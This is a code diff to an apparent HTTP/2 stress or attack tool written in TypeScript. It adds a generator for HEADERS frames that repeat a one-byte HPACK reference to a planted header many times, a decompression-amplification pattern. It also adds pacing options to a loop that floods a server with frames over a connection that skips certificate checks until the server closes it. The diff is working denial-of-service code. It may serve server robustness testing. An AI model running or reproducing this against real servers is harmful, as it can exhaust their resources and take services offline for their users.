@@ -51,6 +51,24 @@ export function resetRequest(path: string, token: string): Frames {
   };
 }
 
+/** Literal field that the table of the client keeps, and its place in the table. */
+const KEPT_FIELD = Buffer.concat([Buffer.from([0x40]), hpackString('x'), hpackString('y')]);
+const FIRST_KEPT = 0x80 | 62;
+
+/**
+ * A request with a field many times, each a single byte: it is in the table of the connection.
+ *
+ * @param count number of fields
+ */
+export function fieldsOfTable(path: string, token: string, count: number): Frames {
+  const block = getBlock(path, token);
+  const fields = Buffer.alloc(count, FIRST_KEPT);
+  return (n) => {
+    const kept = n === 0 ? KEPT_FIELD : Buffer.alloc(0);
+    return frame(HEADERS, END_STREAM_AND_HEADERS, 2 * n + 1, Buffer.concat([block, kept, fields]));
+  };
+}
+
 /** A PING. */
 export const ping: Frames = (n) => frame(PING, 0, 0, Buffer.concat([uint32(0), uint32(n)]));
 
@@ -58,15 +76,27 @@ export const ping: Frames = (n) => frame(PING, 0, 0, Buffer.concat([uint32(0), u
 export const settings: Frames = (n) =>
   frame(SETTINGS, 0, 0, Buffer.concat([Buffer.from([0, INITIAL_WINDOW_SIZE]), uint32(65_535 + (n % 9))]));
 
-/** Frames that are written together. */
-const BURST = 100;
+/** How fast frames are sent. */
+export interface FramePace {
+  /** Steps that are written together. */
+  readonly burst: number;
+  /** Pause between them, in milliseconds; 0: none. */
+  readonly pauseMs: number;
+}
+
+const FULL_PACE: FramePace = { burst: 100, pauseMs: 0 };
 
 /**
  * Sends frames on a connection until the server closes it or the attack ends.
  *
  * @returns the number of steps that were written
  */
-export async function sendFrames(url: string, frames: Frames, signal: AbortSignal): Promise<number> {
+export async function sendFrames(
+  url: string,
+  frames: Frames,
+  signal: AbortSignal,
+  { burst, pauseMs }: FramePace = FULL_PACE,
+): Promise<number> {
   const { hostname, port } = new URL(url);
   const socket = connect({ host: hostname, port: Number(port), ALPNProtocols: ['h2'], rejectUnauthorized: false });
   const end = (): void => void socket.destroy();
@@ -78,9 +108,12 @@ export async function sendFrames(url: string, frames: Frames, signal: AbortSigna
     socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, 0, Buffer.alloc(0))]));
     const write = (): void => {
       if (socket.destroyed) return;
-      const burst = Array.from({ length: BURST }, () => frames(count++));
+      const steps = Array.from({ length: burst }, () => frames(count++));
       // The server acknowledges nothing that this waits for: only a full connection slows the attacker down.
-      socket.write(Buffer.concat(burst), () => setImmediate(write));
+      socket.write(Buffer.concat(steps), () => {
+        if (pauseMs > 0) setTimeout(write, pauseMs);
+        else setImmediate(write);
+      });
     };
     write();
   });
